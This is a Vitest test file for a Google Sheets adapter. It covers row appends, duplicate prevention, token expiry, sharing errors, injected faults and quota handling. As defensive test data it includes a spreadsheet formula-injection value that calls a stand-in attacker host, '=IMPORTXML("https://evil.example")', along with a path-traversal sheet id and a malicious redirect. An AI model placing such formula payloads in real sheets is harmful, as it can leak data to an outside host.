import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import {
  createGoogleSheets,
  readServiceAccount,
  type ServiceAccount,
} from '../../supabase/functions/_shared/google-sheets.ts'
import { newServiceAccountKey } from '../../supabase/local/google-account.ts'
import { googleServiceAccount, startTestSandbox, type TestSandbox } from './sandbox.ts'

const account = readServiceAccount(googleServiceAccount) as ServiceAccount
const sheetId = 'hoja-gee-python'
const row = { cells: ['MER-2026-00042', 1, 'Ana Pérez'], key: 'https://meridiano.example/cert/A' }

let sandbox: TestSandbox

beforeAll(async () => {
  sandbox = await startTestSandbox()
})
afterAll(() => sandbox.stop())
beforeEach(async () => {
  await sandbox.control('POST', '/reset')
  await share(true)
})

function share(shared: boolean, id = sheetId) {
  return sandbox.control('POST', '/google-sheets/spreadsheets', { id, shared })
}

async function rows(): Promise<unknown[][]> {
  const { spreadsheets } = await sandbox.control<{ spreadsheets: { id: string; rows: unknown[][] }[] }>(
    ...(['GET', '/google-sheets/spreadsheets'] as const),
  )
  return spreadsheets.find(({ id }) => id === sheetId)?.rows ?? []
}

async function requests(): Promise<string[]> {
  const answer = await sandbox.control<{ requests: { method: string; path: string }[] }>(
    ...(['GET', '/requests?provider=google-sheets'] as const),
  )
  return answer.requests.map(({ method, path }) => `${method} ${path}`)
}

const read = `GET /v4/spreadsheets/${sheetId}/values/D:D`
const append = `POST /v4/spreadsheets/${sheetId}/values/A:D:append`

function arm(fault: Record<string, unknown>) {
  return sandbox.control('POST', '/faults', { provider: 'google-sheets', times: 1, ...fault })
}

const configOf = (owner: ServiceAccount = account, now: () => number = Date.now) => ({
  tokenUrl: `${sandbox.url}/google-sheets/token`,
  apiUrl: `${sandbox.url}/google-sheets`,
  account: owner,
  now,
})
const sheets = () => createGoogleSheets(configOf())

describe('our adapter', () => {
  test('adds a row at the end, as text and numbers', async () => {
    expect(await sheets().addRow(sheetId, row)).toEqual({ ok: true, answer: "'Hoja 1'!A1:D1" })
    const formula = { cells: ['MER-2026-00043', 2, '=IMPORTXML("https://evil.example")'], key: 'otra' }
    expect(await sheets().addRow(sheetId, formula)).toEqual({ ok: true, answer: "'Hoja 1'!A2:D2" })
    expect(await rows()).toEqual([
      [...row.cells, row.key],
      [...formula.cells, formula.key],
    ])
  })

  test('writes no row twice: after a lost answer, and when it is asked again', async () => {
    await arm({ path: append.slice(5), apply_then_drop: true })
    expect(await sheets().addRow(sheetId, row)).toMatchObject({ ok: false, problem: 'provider_failed' })
    expect(await sheets().addRow(sheetId, row)).toEqual({ ok: true, answer: 'already there' })
    expect(await rows()).toHaveLength(1)
  })

  test('keeps its token until a minute before the end, and gets another after a refusal', async () => {
    let passed = 0
    const client = createGoogleSheets(configOf(account, () => Date.now() + passed))
    async function pass(advance_ms: number): Promise<void> {
      passed += advance_ms
      await sandbox.control('POST', '/clock', { advance_ms })
    }
    await client.addRow(sheetId, row)
    await pass((3599 - 62) * 1000)
    await client.addRow(sheetId, row)
    const tokens = async () => (await requests()).filter((one) => one === 'POST /token').length
    expect(await tokens()).toBe(1)
    await pass(2000)
    await client.addRow(sheetId, row)
    expect(await tokens()).toBe(2)
    await sandbox.control('DELETE', '/google-sheets/tokens')
    expect(await client.addRow(sheetId, row)).toMatchObject({ problem: 'key_refused' })
    expect(await client.addRow(sheetId, row)).toMatchObject({ ok: true })
    expect(await tokens()).toBe(3)
  })

  test('a token that ends between two calls is no loss', async () => {
    await sandbox.control('POST', '/google-sheets/tokens', { life_seconds: 0 })
    expect(await sheets().addRow(sheetId, row)).toMatchObject({ problem: 'key_refused' })
    await sandbox.control('POST', '/google-sheets/tokens', { life_seconds: 3599 })
    expect(await sheets().addRow(sheetId, row)).toMatchObject({ ok: true })
    expect(await rows()).toHaveLength(1)
  })

  test('tells a spreadsheet that is not shared from one that is not there', async () => {
    await share(false)
    expect(await sheets().addRow(sheetId, row)).toEqual({
      ...{ ok: false, problem: 'sheet_not_shared', waitMs: 0 },
      detail: 'google sheets read 403 PERMISSION_DENIED',
    })
    expect(await sheets().addRow('no-such-sheet', row)).toMatchObject({ problem: 'sheet_unusable' })
    expect(await sheets().addRow('', row)).toMatchObject({ problem: 'sheet_unusable' })
    expect(await sheets().addRow('../../otra', row)).toMatchObject({ problem: 'sheet_unusable' })
  })

  test('an API that is switched off concerns every spreadsheet', async () => {
    const details = [{ '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason: 'SERVICE_DISABLED' }]
    const body = { error: { code: 403, message: 'off', status: 'PERMISSION_DENIED', details } }
    await arm({ path: '/v4/*', status: 403, body })
    expect(await sheets().addRow(sheetId, row)).toMatchObject({ problem: 'not_configured' })
  })

  test('a key that Google does not know, and one that is none', async () => {
    const other = readServiceAccount(newServiceAccountKey()) as ServiceAccount
    const refused = await createGoogleSheets(configOf(other)).addRow(sheetId, row)
    expect(refused).toMatchObject({ problem: 'key_refused', detail: 'google token 400 invalid_grant' })
    const broken = { ...account, private_key: 'no key' }
    expect(await createGoogleSheets(configOf(broken)).addRow(sheetId, row)).toMatchObject({
      problem: 'not_configured',
    })
    expect(readServiceAccount('{"client_email":"a"}')).toBeNull()
    expect(readServiceAccount('no json')).toBeNull()
  })

  test.each([
    ['the token', '/token'],
    ['the reading', read.slice(4)],
    ['the writing', append.slice(5)],
  ])('faults of %s are an answer, never an exception', async (_name, path) => {
    const client = sheets()
    const outcomes: unknown[] = []
    for (const fault of [
      { drop_connection: true },
      { status: 503, body: '<html>' },
      { status: 200, body: '<html>' },
      { status: 302, headers: { location: 'https://evil.example' } },
      { status: 429, body: {}, headers: { 'retry-after': '2' } },
    ]) {
      await arm({ path, ...fault })
      const outcome = await client.addRow(sheetId, row)
      outcomes.push(outcome.ok ? 'ok' : [outcome.problem, outcome.waitMs])
    }
    const failed = ['provider_failed', 0]
    expect(outcomes).toEqual([failed, failed, failed, failed, ['provider_busy', 2000]])
    expect(await client.addRow(sheetId, row)).toMatchObject({ ok: true })
    expect(await rows()).toHaveLength(1)
  })

  test('past the quota waits as it is told', async () => {
    const client = sheets()
    for (let index = 0; index < 60; index++) {
      await client.addRow(sheetId, { ...row, key: `k${index}` })
    }
    expect(await client.addRow(sheetId, { ...row, key: 'k60' })).toMatchObject({
      ...{ ok: false, problem: 'provider_busy', waitMs: 1000 },
      detail: 'google sheets append 429 RESOURCE_EXHAUSTED',
    })
    expect(await rows()).toHaveLength(60)
  })
})
